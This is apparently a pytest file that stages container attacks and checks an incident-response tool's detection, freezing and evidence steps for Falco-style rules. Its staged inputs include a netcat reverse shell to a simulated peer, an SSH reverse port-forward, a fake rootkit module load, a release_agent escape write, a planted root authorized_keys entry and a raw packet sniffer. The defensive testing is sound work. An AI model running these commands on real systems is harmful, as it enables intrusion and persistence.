"""What containers do: raw sockets, shells on sockets, dropped programs, SSH, debugfs, modules, release_agent."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.lab.hostile import file_names
from tests.lab.places.host import Host
from tests.lab.places.internet import PEER, internet
from tests.lab.places.node import Node
from tests.lab.places.spot import Spot
from tests.lab.story import Tell

PACKET = "Packet socket created in container"
REDIRECT = "Redirect STDOUT/STDIN to Network Connection in Container"
DROPPED = "Drop and execute new binary in container"
SSH = "Disallowed SSH Connection Non Standard Port"
DEBUGFS = "Debugfs Launched in Privileged Container"
MODULE = "Linux Kernel Module Injection Detected"
RELEASE = "Detect release_agent File Container Escapes"
ATTACH = "PTRACE attached to process"
TERMINAL = "Terminal shell in container"
API = "Contact K8S API Server From Container"
RULES = (PACKET, REDIRECT, DROPPED, SSH, DEBUGFS, MODULE, RELEASE, ATTACH, TERMINAL, API)


@pytest.fixture
def web(node: Node) -> Spot:
    """A container that no kubelet knows of."""
    return Spot(node, node.start_container())


def is_frozen(spot: Spot) -> bool:
    """Whether the kernel has stopped every process of a container."""
    container = spot.container
    assert container is not None
    group = spot.place.run(f"sed -n 's/^0:://p' /proc/{container.pid}/cgroup").strip()
    return "frozen 1" in spot.place.read(f"/sys/fs/cgroup/unified{group}/cgroup.events")


SNIFF = """
import os, socket, time
open(os.environ["GROUP"], "w").write(str(os.getpid()))
socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
held = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
os.execv("/bin/sleep", ["sleep", "4321"]) if os.environ.get("EXEC") else time.sleep(4321)
"""


def in_its_network(spot: Spot, script: str) -> int:
    """Run Python as a part of the container, whose image has none."""
    container = spot.container
    assert container is not None
    spot.place.write("/root/script.py", script)
    group = spot.place.run(f"sed -n 's/^0:://p' /proc/{container.pid}/cgroup").strip()
    group = f"/sys/fs/cgroup/unified{group}/cgroup.procs"
    return spot.place.start(
        "env", f"GROUP={group}", "nsenter", "-t", str(container.pid), "-n", "python3", "/root/script.py"
    )


def test_a_packet_socket(web: Spot, tell: Tell) -> None:
    pid = in_its_network(web, SNIFF)
    web.place.wait_until(lambda: "packet" in web.place.run(f"ls -l /proc/{pid}/fd; echo packet"), "the socket")
    web.place.wait_until(lambda: web.place.run(f"nsenter -t {pid} -n ss -0 -H -n"), "a packet socket")
    with tell(web.fields(pid), rule=PACKET, host=web.place) as report:
        report.look("Who has a packet socket", shows=["net:[", f"pid={pid}"])
        report.look("What else runs there?", shows="script.py")
        report.contain("Freeze the process", state=lambda: web.place.state(pid), becomes="T")
        report.undo(state=lambda: web.place.state(pid), becomes="S")
        web.place.run(f"kill -KILL {pid}")
        report.again("Who has a packet socket", hides="pid=")


def test_a_shell_on_a_socket(web: Spot, tell: Tell, tmp_path: Path) -> None:
    node = web.place
    with internet(node) as far:
        far.listen(4444, into=tmp_path / "got", says="id\nsleep 4323\n")
        web.run(f"nc.traditional -e /bin/sh {PEER} 4444 >/dev/null 2>&1 &")
        node.wait_until(lambda: "uid=0" in (tmp_path / "got").read_text(), "the peer has a shell")
        assert isinstance(node, Node)
        assert web.container is not None
        shell = next(
            pid for pid in node.pids_of(web.container) if "socket" in node.run(f"readlink /proc/{pid}/fd/0 || true")
        )
        node.wait_until(lambda: node.run(f"pgrep -P {shell} || true").strip(), "the shell has started a program")
        child = int(node.run(f"pgrep -P {shell}"))

        def states() -> tuple[str, str]:
            return node.state(shell), node.state(child)

        fields = web.fields(shell, fd__name=f"10.88.0.5:40000->{PEER}:4444", fd__sip=PEER)
        with tell(fields, rule=REDIRECT, host=node) as report:
            report.look("Is somebody connected?", shows=["ESTAB", f"{PEER}:4444"])
            report.contain(
                "Freeze the shells on a socket", state=states, becomes=("T", "T"), shows=[f"{shell} T", f"{child} T"]
            )
            assert node.state(web.container.pid) == "S", "the workload itself was stopped"
            report.look("Which request came just before?")
            report.undo(state=states, becomes=("S", "S"))
            node.run(f"kill -KILL {shell} {child}")
            report.again("Is somebody connected?", hides="ESTAB")


@pytest.mark.parametrize("path", ["/tmp/agent", *file_names("/opt")])
def test_a_dropped_program(web: Spot, tell: Tell, path: str) -> None:
    web.write(path, web.path("/bin/nc.traditional").read_bytes(), 0o751)
    pid = web.start(path, "-l", "-p", "4321")
    node = web.place
    accounts = web.snapshot("/etc/passwd")
    with tell(web.fields(pid), rule=DROPPED, host=node) as report:
        report.look("What is this program?", shows="-rwxr-x--x")
        report.look("What is it doing?", shows="-l -p 4321")
        before = web.snapshot(path)
        report.contain("take away its right to run", state=lambda: state(web, path, pid), becomes=(0o640, "T"))
        kept = web.evidence / report.uid / "program"
        assert kept.read_bytes() == web.path(path).read_bytes()
        report.undo(state=lambda: web.snapshot(path), becomes=before)
        web.path(path).unlink()
        report.again("What is this program?", shows="No such file")
        web.path(path).symlink_to("/etc/passwd")
        report.again("take away its right", shows="no_plain_file_of_the_container")
        assert web.snapshot("/etc/passwd") == accounts
    assert not node.exists("/root/owned")
    node.run(f"kill -KILL {pid}")


def state(spot: Spot, path: str, pid: int) -> tuple[int, str]:
    """A file's mode and its process's state."""
    return spot.path(path).stat().st_mode & 0o777, spot.place.state(pid)


def test_ssh_to_another_port(spot: Spot, tell: Tell, tmp_path: Path) -> None:
    place = spot.place
    with internet(place) as far:
        far.listen(2222, into=tmp_path / "got", says="SSH-2.0-x\n")
        if spot.container:
            pid = spot.start("nc.traditional", PEER, "2222")
        else:
            pid = place.start(
                "ssh", "-N", "-o", "StrictHostKeyChecking=no", "-R", "9000:localhost:22", "-p", "2222", PEER
            )
            spot.write("/root/.ssh/config", "Host x\n  RemoteForward 9000 localhost:22\n")
        place.wait_until(far.connections, "a connection")
        fields = spot.fields(pid, fd__name=f"10.99.0.2:40000->{PEER}:2222", fd__rport=2222)
        with tell(fields, rule=SSH, host=place) as report:
            report.look("Is it connected?", shows=["ESTAB", f"{PEER}:2222"])
            if not spot.container:
                report.again("Is it connected?", shows="/root/.ssh/config:  RemoteForward")
            report.look(shows="2222")
            report.contain("Freeze the process", state=lambda: place.state(pid), becomes="T")
            report.undo(state=lambda: place.state(pid), becomes="S")
            place.run(f"kill -KILL {pid}")
            report.again("Is it connected?", hides="ESTAB")


def test_debugfs_opens_a_disk(node: Node, tell: Tell) -> None:
    spot = Spot(node, node.start_container(security={"privileged": True}))
    spot.start("tail", "-f", "/dev/null")
    fields = spot.fields(**{"proc.cmdline": "debugfs -w /dev/sda1", "proc.name": "debugfs", "proc.pname": "sh"})
    with tell(fields, rule=DEBUGFS, host=node) as report:
        report.look("Which disk", shows=["tail -f", "NAME", " /dev/null"])
        report.look("Was the node's disk changed?", shows="/etc/passwd")
        report.contain("freeze the container", state=lambda: is_frozen(spot), becomes=True)
        report.undo(state=lambda: is_frozen(spot), becomes=False)


def test_a_module_is_loaded(web: Spot, tell: Tell) -> None:
    web.write("/tmp/rootkit.ko", b"\x7fELF not a module")
    fields = web.fields(
        **{"proc.cmdline": "insmod /tmp/rootkit.ko", "proc.args": "/tmp/rootkit.ko", "proc.name": "insmod"}
    )
    with tell(fields, rule=MODULE, host=web.place) as report:
        report.look("Is it in the kernel?", shows="out-of-tree ")
        report.keep("Copy the module's file", keeps=lambda _: (web.evidence / report.uid / "module.ko").read_bytes())
        report.contain("freeze the container", state=lambda: is_frozen(web), becomes=True)
        report.undo(state=lambda: is_frozen(web), becomes=False)
        web.path("/tmp/rootkit.ko").unlink()
        report.again("Copy the module's file")
    named = web.fields(**{"proc.cmdline": "insmod rootkit.ko", "proc.args": "-f rootkit.ko", "proc.name": "insmod"})
    web.write("/opt/.x/rootkit.ko", b"\x7fELF another")
    other = tell(named, rule=MODULE, host=web.place)
    other.look("Is it in the kernel?")
    other.keep("Copy the module's file", keeps=lambda _: (web.evidence / other.uid / "module.ko").read_bytes())


def test_release_agent_is_written(web: Spot, tell: Tell) -> None:
    web.write("/tmp/cgrp/release_agent", "/cmd\n")
    fields = web.fields(**{"fd.name": "/tmp/cgrp/release_agent", "proc.cmdline": "sh -c echo /cmd", "proc.name": "sh"})
    with tell(fields, rule=RELEASE, host=web.place) as report:
        report.look("Which command is set?", shows="/cmd")
        web.place.write("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA x\n")
        report.look("Did it run on the node?", shows="/root/.ssh/authorized_keys")
        report.contain("freeze the container", state=lambda: is_frozen(web), becomes=True)
        report.undo(state=lambda: is_frozen(web), becomes=False)
        web.path("/tmp/cgrp/release_agent").unlink()
        report.again("Which command is set?", shows="No such file")


def test_a_process_is_traced(booted_host: Host, tell: Tell) -> None:
    host = booted_host
    victim = host.start("sleep", "4321")
    tracer = host.start("strace", "-p", str(victim), "-o", "/dev/null")
    host.wait_until(lambda: f"TracerPid:\t{tracer}" in host.read(f"/proc/{victim}/status"), "strace has attached")
    spot = Spot(host)
    with tell(spot.fields(tracer, proc__pcmdline="bash"), rule=ATTACH, host=host) as report:
        report.look("Which process traces which?", shows=["sleep 4321", f"strace -p {victim}"])
        report.look("What started it?")
        report.contain("keep the tracer, then freeze it", state=lambda: host.state(tracer), becomes="T")
        assert f"/root/evidence/{report.uid}/{tracer}.exe" in host.snapshot(f"/root/evidence/{report.uid}")
        report.undo(state=lambda: host.state(tracer), becomes="S")
        host.run(f"kill -KILL {tracer}")
        host.wait_until(lambda: not host.alive(tracer), "the tracer has ended")
        report.again("Which process traces which?", hides="sleep 4321")


def test_a_shell_that_no_kubelet_knows_of(web: Spot, tell: Tell) -> None:
    report = tell(web.fields(web.start("tail", "-f", "/dev/null"), proc__tty=34816), rule=TERMINAL, host=web.place)
    report.look("Who opened it?", shows=["reboot", "wtmp begins"])


def test_the_api_is_called(web: Spot, tell: Tell) -> None:
    pid = web.start("tail", "-f", "/dev/null")
    with tell(web.fields(pid, fd__name="10.0.0.1:1->10.96.0.1:443"), rule=API, host=web.place) as report:
        report.look("Which request came just before?")
        report.look("What else runs there?", shows="tail -f")
        report.contain("freeze the container", state=lambda: is_frozen(web), becomes=True)
        report.undo(state=lambda: is_frozen(web), becomes=False)
